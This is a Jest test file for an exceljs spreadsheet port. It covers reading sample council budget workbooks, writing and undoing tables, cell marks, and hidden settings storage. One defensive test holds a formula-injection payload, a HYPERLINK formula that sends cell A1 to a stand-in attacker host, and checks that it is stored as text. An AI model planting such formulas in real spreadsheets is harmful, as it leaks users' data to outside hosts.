/**
 * The exceljs port on real .xlsx files written to a temp folder: the built samples read back with
 * the seed figures at their cells; writes keep formulas with cached results and undo exactly;
 * marks restore each cell's own fill; settings travel with the saved file.
 */
import { promises as fs } from 'fs';
import * as path from 'path';
import ExcelJS from 'exceljs';

import { SheetView, type WorkbookSnapshot } from '../../src/engine/grid';
import { OverwriteRefusedError, PortError, SETTINGS_SHEET } from '../../src/engine/port';
import type { Settings } from '../../src/engine/settings';
import { fx, looksLikeFormula, val, type TableSpec } from '../../src/engine/spec';
import { SEEDS } from '../../src/samples/seeds';
import { openFile, saveFile } from '../../src/xlsx/files';
import { XlsxPort } from '../../src/xlsx/xlsxPort';
import { buildSampleWorkbooks } from '../../scripts/build-samples';
import { tempDir } from './helpers';

/** exceljs keeps a sheet's conditional formats on a field its typings do not declare. */
function conditionalFormats(ws: ExcelJS.Worksheet): unknown[] {
  return (ws as unknown as { conditionalFormattings: unknown[] }).conditionalFormattings;
}

let dir: string;
const sample = (name: string): string => path.join(dir, name);

beforeAll(async () => {
  dir = await tempDir();
  await buildSampleWorkbooks(dir);
});

afterAll(async () => {
  await fs.rm(dir, { recursive: true, force: true });
});

function sheetOf(wb: WorkbookSnapshot, name: string): SheetView {
  const s = wb.sheets.find((x) => x.name === name);
  if (!s) throw new Error(`no sheet ${name} in ${wb.sheets.map((x) => x.name).join(', ')}`);
  return new SheetView(s);
}

/** Saves the port to a new temp file and opens it again, as a user's next session would. */
async function reopen(port: XlsxPort, name: string): Promise<XlsxPort> {
  const file = path.join(dir, name);
  await saveFile(port, file);
  return openFile(file);
}

/**
 * Every cell's style on a sheet, by address: what undo and clearMarks must give back. A cell with
 * neither a value nor a style is the same as no cell (exceljs writes nothing for it), so it is left out.
 */
function styles(port: XlsxPort, sheet: string): Record<string, unknown> {
  const out: Record<string, unknown> = {};
  port.workbook.getWorksheet(sheet)!.eachRow((row) =>
    row.eachCell({ includeEmpty: true }, (cell) => {
      const style = JSON.parse(JSON.stringify(cell.style ?? {}));
      if (cell.value !== null || Object.keys(style).length > 0) out[cell.address] = style;
    }),
  );
  return out;
}

describe('reading the built samples', () => {
  test('the Manchester 2009 plan has the seed figures at the cells under its title and two header rows', async () => {
    const wb = await (await openFile(sample('manchester-2009-plan.xlsx'))).read();
    const plan = sheetOf(wb, 'Financial plan');
    // Title at B2, units at B3, header rows 5 and 6, first line on row 7.
    expect(plan.sheet.origin).toEqual({ row: 1, col: 1 });
    expect(plan.value(1, 1)).toBe('3.1 Financial Plan');
    expect(plan.value(2, 1)).toBe('Figures in £000');
    expect(plan.value(4, 3)).toBe('Current Cash Limit Revenue Budget');
    expect(plan.value(5, 5)).toBe('2009/10');
    expect(plan.value(6, 1)).toBe('01');
    expect(plan.value(6, 2)).toBe('Service Strategy and Regulation');
    // 03 Services for Older People, proposed gross 2010/11 (G9) and its Mainstream funding 2011/12 (L12).
    expect(plan.value(8, 2)).toBe('Services for Older People');
    expect(plan.value(8, 6)).toBe(74026);
    expect(plan.value(11, 8)).toBe('Mainstream');
    expect(plan.value(11, 11)).toBe(58800);
    expect(plan.numberFormat(8, 6)).toBe('#,##0;(#,##0)');
    expect(plan.sheet.merges).toEqual(expect.arrayContaining(['D5:E5', 'F5:H5', 'J5:L5']));
    const seedRows = SEEDS['manchester-2009-financial-plan'].rows!;
    seedRows.forEach((r, i) => r.forEach((v, k) => expect([i, k, plan.value(6 + i, 1 + k)]).toEqual([i, k, v]))); // every figure
  });

  test('the Totals row holds SUM formulas caching the printed totals, slips included', async () => {
    const wb = await (await openFile(sample('manchester-2009-plan.xlsx'))).read();
    const plan = sheetOf(wb, 'Financial plan');
    const totals = 6 + SEEDS['manchester-2009-financial-plan'].rows!.findIndex((r) => r[1] === 'Totals');
    expect(plan.value(totals, 2)).toBe('Totals');
    expect(plan.formula(totals, 3)).toBe(`=SUM(D7:D${totals})`);
    expect(plan.value(totals, 3)).toBe(189236);
    // Funding 2010/11 was printed as 193,610 against 193,611 gross: the cached result keeps the slip.
    expect(plan.formula(totals, 10)).toBe(`=SUM(K7:K${totals})`);
    expect(plan.value(totals, 10)).toBe(193610);
    expect(plan.value(totals, 6)).toBe(193611);
    expect(plan.formula(totals + 1, 9)).toBe(`=SUMIF($I$7:$I$${totals},"Mainstream",J7:J${totals})`);
    expect(plan.value(totals + 1, 9)).toBe(134972);
    // A plain figure carries no formula.
    expect(plan.formula(8, 6)).toBeNull();
  });

  test('the combined sample has a plan, a spend/funding summary, a risk register and comparators', async () => {
    const wb = await (await openFile(sample('plancheck-sample.xlsx'))).read();
    expect(wb.sheets.map((s) => s.name)).toEqual([
      'Financial plan',
      'Spend and funding',
      'Risk register',
      'Risk register 5x5',
      'Comparators',
    ]);
    const spend = sheetOf(wb, 'Spend and funding');
    expect(spend.sheet.origin).toEqual({ row: 3, col: 2 });
    const total = spend.bottom;
    expect(spend.value(total, 2)).toBe('Total');
    expect(spend.value(total, 3)).toBe(187.691);
    expect(spend.formula(total, 3)).toMatch(/^=SUM\(D\d+:D\d+\)$/);
    expect(spend.formula(total, 5)).toMatch(/^=SUM\(F\d+:F\d+\)$/);
    expect(sheetOf(wb, 'Risk register').value(1, 1)).toBe('M');
    const comparators = sheetOf(wb, 'Comparators');
    expect(comparators.value(4, 1)).toBe('1C1B');
    expect(comparators.value(4, 3)).toBe(100);
  });

  test('the other samples hold their tables, and the settings sheet is never read as a plan sheet', async () => {
    const names: Record<string, string[]> = {
      'birmingham-2008.xlsx': ['Costs and benefits', 'Lifecycle costs', 'Resource days', 'Benefits', 'Programme risks'],
      'essex-2017.xlsx': ['Savings targets', 'Savings activity', 'Measures'],
      'worcestershire-2018.xlsx': ['Budget 2018-19', 'ASCOF benchmark'],
      'manchester-2019.xlsx': ['Capacity plan'],
    };
    for (const [file, sheets] of Object.entries(names)) {
      const wb = await (await openFile(sample(file))).read();
      expect([file, wb.sheets.map((s) => s.name)]).toEqual([file, sheets]);
    }
    const days = sheetOf(await (await openFile(sample('birmingham-2008.xlsx'))).read(), 'Resource days');
    expect(days.value(days.bottom, 2)).toBe('TOTAL');
    expect(days.value(days.bottom, 14)).toBe(51960);
    expect(days.formula(days.bottom, 3)).toMatch(/^=SUM\(D\d+:D\d+\)$/);
    const config = JSON.parse(await fs.readFile(path.join(dir, 'configs', 'worcestershire.json'), 'utf8'));
    expect(config).toEqual({ benchmark: { own: 'Worcestershire' } });
    const projections = JSON.parse(await fs.readFile(path.join(dir, 'configs', 'projections.json'), 'utf8'));
    expect(Object.keys(projections.projections)).toEqual(['budget', 'costBenefit', 'savings', 'demand']);
  });
});

describe('reading every kind of cell', () => {
  test('rich text, hyperlinks, errors, booleans, dates, shared formulas and merged cells', async () => {
    const book = new ExcelJS.Workbook();
    const ws = book.addWorksheet('Kinds');
    ws.getCell('B2').value = { richText: [{ text: 'Older ', font: { bold: true } }, { text: 'People' }] };
    ws.getCell('C2').value = { text: 'Council site', hyperlink: 'https://example.org/' };
    ws.getCell('D2').value = { error: '#REF!' };
    ws.getCell('E2').value = true;
    ws.getCell('F2').value = new Date(Date.UTC(2024, 3, 1));
    ws.getCell('F2').numFmt = 'dd/mm/yyyy';
    ws.getCell('B3').value = 1;
    ws.getCell('B4').value = 2;
    // exceljs's typings lack the shared-formula master's fields; its reader and writer take them.
    ws.getCell('C3').value = {
      formula: 'B3*2',
      result: 2,
      shareType: 'shared',
      ref: 'C3:C4',
      date1904: false,
    } as ExcelJS.CellFormulaValue;
    ws.getCell('C4').value = { sharedFormula: 'C3', result: 4, date1904: false };
    ws.getCell('D3').value = { formula: '1/0', result: { error: '#DIV/0!' }, date1904: false };
    ws.getCell('E3').value = 'Heading';
    ws.mergeCells('E3:F3');
    ws.getRow(4).hidden = true;
    const port = await reopen(new XlsxPort(book, 'kinds.xlsx'), 'kinds.xlsx');
    const s = sheetOf(await port.read(), 'Kinds');
    expect(s.sheet.origin).toEqual({ row: 1, col: 1 });
    expect(s.value(1, 1)).toBe('Older People');
    expect(s.value(1, 2)).toBe('Council site');
    expect(s.value(1, 3)).toBe('#REF!');
    expect(s.value(1, 4)).toBe(true);
    expect(s.value(1, 5)).toBe(45383); // 1 April 2024 as an Excel serial
    expect(s.numberFormat(1, 5)).toBe('dd/mm/yyyy');
    expect(s.formula(2, 2)).toBe('=B3*2');
    expect(s.value(3, 2)).toBe(4);
    expect(s.formula(3, 2)).toBe('=B4*2'); // the shared formula, translated to its own row
    expect(s.value(2, 3)).toBe('#DIV/0!');
    expect(s.formula(2, 3)).toBe('=1/0');
    expect(s.value(2, 4)).toBe('Heading');
    expect(s.value(2, 5)).toBeNull(); // the merged-over cell is empty, as in Excel
    expect(s.sheet.merges).toEqual(['E3:F3']);
    expect(s.sheet.hiddenRows).toEqual([3]);
  });

  test('defined names come back as named ranges, sheet names unquoted', async () => {
    const book = new ExcelJS.Workbook();
    book.addWorksheet('Cash limits').getCell('B4').value = 138000;
    book.definedNames.add("'Cash limits'!$B$4:$D$4", 'CashLimit_2010_11');
    const wb = await (await reopen(new XlsxPort(book), 'names.xlsx')).read();
    expect(wb.names).toEqual([{ name: 'CashLimit_2010_11', sheet: 'Cash limits', address: 'B4:D4' }]);
  });
});

/** A spec over the plan's title block (occupied cells) with a table, a name, bands and widths. */
function projectionSpec(sheet: string, row: number, col: number, newSheet = false): TableSpec {
  return {
    title: 'Budget projection',
    anchor: { sheet, row, col },
    newSheet,
    cells: [
      [val('Line', { bold: true }), val('2024/25', { bold: true }), val('2025/26', { bold: true })],
      [
        val('Older People'),
        val(100, { input: true, numberFormat: '#,##0' }),
        fx('C2*1.03', 103, { numberFormat: '#,##0' }),
      ],
      [val('Learning Disability'), val(50, { input: true }), fx('C3*1.03', 51.5, { fill: '#CFE3F7' })],
      [val('Total', { bold: true }), fx('SUM(C2:C3)', 150), fx('SUM(D2:D3)', 154.5)],
    ],
    excelTable: { name: 'BudgetProjection', top: 0, left: 0, bottom: 3, right: 2 },
    names: [{ name: 'ProjectionTotal', top: 3, left: 1, right: 2 }],
    conditionalBands: [{ top: 1, left: 1, bottom: 2, right: 2, bands: [{ min: 0, max: 60, fill: '#92D050' }] }],
    columnWidths: [30, 12, 12],
  };
}

describe('writing and undoing', () => {
  test('write stores formulas with their cached results, formats and the table, and they survive a save', async () => {
    const port = await openFile(sample('manchester-2019.xlsx'));
    const result = await port.write(projectionSpec('Capacity plan', 20, 1));
    expect(result).toEqual({ sheet: 'Capacity plan', range: 'B21:D24', cells: 12 });
    const again = await reopen(port, 'written.xlsx');
    const s = sheetOf(await again.read(), 'Capacity plan');
    expect(s.value(21, 3)).toBe(103);
    expect(s.formula(21, 3)).toBe('=C2*1.03');
    expect(s.value(23, 3)).toBe(154.5);
    expect(s.formula(23, 3)).toBe('=SUM(D2:D3)');
    expect(s.numberFormat(21, 2)).toBe('#,##0');
    const ws = again.workbook.getWorksheet('Capacity plan')!;
    expect(ws.getCell('C22').fill).toEqual({ type: 'pattern', pattern: 'solid', fgColor: { argb: 'FFFFF2CC' } });
    expect(ws.getCell('D23').fill).toEqual({ type: 'pattern', pattern: 'solid', fgColor: { argb: 'FFCFE3F7' } });
    expect(ws.getCell('B21').font?.bold).toBe(true);
    expect(ws.getColumn(2).width).toBe(30);
    expect((ws.getTables() as unknown as ExcelJS.Table[]).length).toBe(1);
    expect((await again.read()).names).toContainEqual({
      name: 'ProjectionTotal',
      sheet: 'Capacity plan',
      address: 'C24:D24',
    });
  });

  test('write then undo gives back the identical workbook: values, formulas, formats, fills, names, tables', async () => {
    const port = await openFile(sample('manchester-2009-plan.xlsx'));
    const before = await port.read();
    const beforeStyles = styles(port, 'Financial plan');
    const ws = port.workbook.getWorksheet('Financial plan')!;
    const beforeWidths = [1, 2, 3, 4, 5].map((c) => ws.getColumn(c).width);
    const beforeCf = conditionalFormats(ws).length;
    // Over the title block and into the header rows (overwrite allowed), so there is a lot to restore;
    // left of the merged headers at D5, which Excel would not lay a table over.
    await port.write(projectionSpec('Financial plan', 1, 0), { overwrite: true });
    expect(sheetOf(await port.read(), 'Financial plan').value(1, 0)).toBe('Line');
    expect(port.canUndo()).toBe(true);
    expect(await port.undo()).toBe(true);
    expect(await port.read()).toEqual(before);
    expect(styles(port, 'Financial plan')).toEqual(beforeStyles);
    expect([1, 2, 3, 4, 5].map((c) => ws.getColumn(c).width)).toEqual(beforeWidths);
    expect(conditionalFormats(ws).length).toBe(beforeCf);
    expect(ws.getTables()).toHaveLength(0);
    expect(port.canUndo()).toBe(false);
    expect(await port.undo()).toBe(false);
    // And the undone workbook saves and reopens as it was.
    expect(await (await reopen(port, 'undone.xlsx')).read()).toEqual({ ...before, name: 'undone.xlsx' });
  });

  test('undo of a write on a new sheet removes the sheet', async () => {
    const port = await openFile(sample('essex-2017.xlsx'));
    const before = await port.read();
    await port.write(projectionSpec('Projection', 0, 0, true));
    expect((await port.read()).sheets.map((s) => s.name)).toContain('Projection');
    await port.undo();
    expect(await port.read()).toEqual(before);
    expect(port.workbook.getWorksheet('Projection')).toBeUndefined();
  });

  test('a write over non-empty cells is refused, naming them, and changes nothing', async () => {
    const port = await openFile(sample('manchester-2009-plan.xlsx'));
    const before = await port.read();
    const refused = port.write(projectionSpec('Financial plan', 1, 1));
    await expect(refused).rejects.toThrow(OverwriteRefusedError);
    const e = (await refused.catch((x: unknown) => x)) as OverwriteRefusedError;
    expect(e.sheet).toBe('Financial plan');
    expect(e.occupied).toEqual(['B2', 'B3', 'B5', 'C5', 'D5']);
    expect(await port.read()).toEqual(before);
    expect(port.canUndo()).toBe(false);
    await expect(port.write(projectionSpec('Financial plan', 0, 0, true))).rejects.toThrow(PortError);
    await expect(port.write(projectionSpec('No such sheet', 0, 0))).rejects.toThrow(/no sheet called "No such sheet"/);
  });

  test("a user's text that looks like a formula is written as text, never as a formula", async () => {
    const port = await openFile(sample('manchester-2019.xlsx'));
    const text = '=HYPERLINK("http://evil.example/?"&A1,"Click")';
    expect(looksLikeFormula(text)).toBe(true);
    await port.write({
      title: 'Copied labels',
      anchor: { sheet: 'Capacity plan', row: 30, col: 1 },
      cells: [[val(text), val('+44 20 7946 0000'), val('-fees'), val('@risk')]],
    });
    const s = sheetOf(await (await reopen(port, 'text.xlsx')).read(), 'Capacity plan');
    expect([s.value(30, 1), s.value(30, 2), s.value(30, 3), s.value(30, 4)]).toEqual([
      text,
      '+44 20 7946 0000',
      '-fees',
      '@risk',
    ]);
    expect([s.formula(30, 1), s.formula(30, 2), s.formula(30, 3), s.formula(30, 4)]).toEqual([null, null, null, null]);
  });
});

describe('marks', () => {
  const yellow: ExcelJS.Fill = {
    type: 'pattern',
    pattern: 'solid',
    fgColor: { argb: 'FFFFFF00' },
    bgColor: { indexed: 64 } as unknown as ExcelJS.Color,
  };

  test("mark then clearMarks restores a cell's own yellow fill exactly, even after a save and reopen", async () => {
    const first = await openFile(sample('manchester-2009-plan.xlsx'));
    // A style of its own: exceljs shares style objects between cells, so setting .fill would colour them all.
    const g9 = first.workbook.getWorksheet('Financial plan')!.getCell('G9');
    g9.style = { ...g9.style, fill: yellow };
    // Saved by exceljs itself: a port's copy carries only what the port changed, and this fill is the file's own.
    await first.workbook.xlsx.writeFile(path.join(dir, 'yellow.xlsx'));
    const yellowed = await openFile(path.join(dir, 'yellow.xlsx'));
    const ownFill = JSON.parse(JSON.stringify(yellowed.workbook.getWorksheet('Financial plan')!.getCell('G9').fill));
    expect(ownFill.fgColor).toEqual({ argb: 'FFFFFF00' });
    const before = styles(yellowed, 'Financial plan');
    const beforeRead = await yellowed.read();

    await yellowed.mark([
      { sheet: 'Financial plan', cell: 'G9', color: '#F8B4B4' },
      { sheet: 'Financial plan', cell: 'J9:L9', color: '#FCE3A6' },
      { sheet: 'Financial plan', cell: 'G9', color: '#CFE3F7' }, // marked twice: its own fill is still yellow
    ]);
    const marked = await reopen(yellowed, 'marked.xlsx');
    const plan = marked.workbook.getWorksheet('Financial plan')!;
    expect(plan.getCell('G9').fill).toEqual({ type: 'pattern', pattern: 'solid', fgColor: { argb: 'FFCFE3F7' } });
    expect(plan.getCell('K9').fill).toEqual({ type: 'pattern', pattern: 'solid', fgColor: { argb: 'FFFCE3A6' } });

    await marked.clearMarks(); // a new session: the record comes from the settings sheet
    expect(JSON.parse(JSON.stringify(plan.getCell('G9').fill))).toEqual(ownFill);
    expect(JSON.parse(JSON.stringify(plan.getCell('K9').fill ?? null))).toEqual(
      (before.K9 as { fill?: unknown }).fill ?? null,
    );
    const cleared = await reopen(marked, 'cleared.xlsx');
    expect(styles(cleared, 'Financial plan')).toEqual(before);
    expect((await cleared.read()).sheets).toEqual(beforeRead.sheets);
  });

  test('a mark on a sheet that does not exist is a PortError', async () => {
    const port = await openFile(sample('manchester-2019.xlsx'));
    await expect(port.mark([{ sheet: 'Nowhere', cell: 'A1', color: '#F8B4B4' }])).rejects.toThrow(PortError);
  });
});

describe('settings', () => {
  test('a workbook without settings gives {}', async () => {
    expect(await (await openFile(sample('essex-2017.xlsx'))).loadSettings()).toEqual({});
  });

  test('settings longer than one cell survive a save and reopen, on a very hidden sheet read() skips', async () => {
    const port = await openFile(sample('essex-2017.xlsx'));
    const settings: Settings = {
      rounding: { perFigure: 0.5, absolute: 0 },
      cashLimits: { '2010/11': 138000 },
      benchmark: { own: 'Essex' },
      tables: Array.from({ length: 900 }, (_, i) => ({
        sheet: `Sheet ${i}`,
        range: `B4:M${50 + i}`,
        kind: 'financial-plan',
        headerRows: [4, 5],
        roles: { I: 'source', '=cmd': '=1+1' },
      })),
    };
    expect(JSON.stringify(settings).length).toBeGreaterThan(70000);
    await port.saveSettings(settings);
    const again = await reopen(port, 'settings.xlsx');
    expect(await again.loadSettings()).toEqual(settings);
    const hidden = again.workbook.getWorksheet(SETTINGS_SHEET)!;
    expect(hidden.state).toBe('veryHidden');
    expect(hidden.getCell('C1').value).toBeNull();
    for (const r of [1, 2, 3]) expect((hidden.getCell(r, 1).value as string).length).toBeLessThan(32767);
    expect((await again.read()).sheets.map((s) => s.name)).toEqual(['Savings targets', 'Savings activity', 'Measures']);
    // Saving smaller settings leaves no stale pieces behind.
    await again.saveSettings({ benchmark: { own: 'Essex' } });
    expect(await again.loadSettings()).toEqual({ benchmark: { own: 'Essex' } });
  });
});

describe('selection and buffers', () => {
  test('select is remembered; fromBuffer and toBuffer round-trip the bytes of a workbook', async () => {
    const bytes = await fs.readFile(sample('manchester-2019.xlsx'));
    const port = await XlsxPort.fromBuffer(new Uint8Array(bytes), 'capacity.xlsx');
    expect(await port.selection()).toBeNull();
    await port.select('Capacity plan', 'C5');
    expect(await port.selection()).toEqual({ sheet: 'Capacity plan', cell: 'C5' });
    const out = await port.toBuffer();
    expect(out[0]).toBe(0x50);
    const back = await XlsxPort.fromBuffer(new Uint8Array(out), 'x');
    expect((await back.read()).sheets).toEqual((await port.read()).sheets);
  });
});
